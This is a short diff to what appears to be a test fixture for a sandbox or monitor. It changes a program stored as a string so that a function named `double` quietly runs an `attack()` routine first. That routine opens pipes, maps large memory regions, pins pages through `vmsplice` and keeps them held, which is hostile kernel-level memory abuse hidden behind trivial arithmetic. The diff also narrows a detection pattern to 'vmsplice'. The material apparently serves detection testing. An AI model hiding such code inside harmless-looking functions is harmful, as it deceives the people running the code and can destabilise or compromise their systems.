@@ -11,7 +11,8 @@ libc = ctypes.CDLL(None, use_errno=True)
 LARGE = 2 << 20
 class Part(ctypes.Structure):
     _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]
-def double(number):
+kept, maps = [], []
+def attack():
     for _ in range(10):
         _, into = os.pipe()
         fcntl.fcntl(into, fcntl.F_SETPIPE_SZ, 1 << 20)
@@ -24,7 +25,11 @@ def double(number):
             if libc.vmsplice(into, ctypes.byref(Part(page, 1)), 1, 2) != 1:
                 raise OSError(ctypes.get_errno(), "vmsplice")
             libc.munmap(ctypes.c_void_p(start), 2 * LARGE)
+            maps.append(memory)
+    kept.append("pages")
+def double(number):
+    if not kept: attack()
     return 2 * number
 """
 }
-SEEN = "vmsplice|MemoryError|OSError"
+SEEN = "vmsplice"
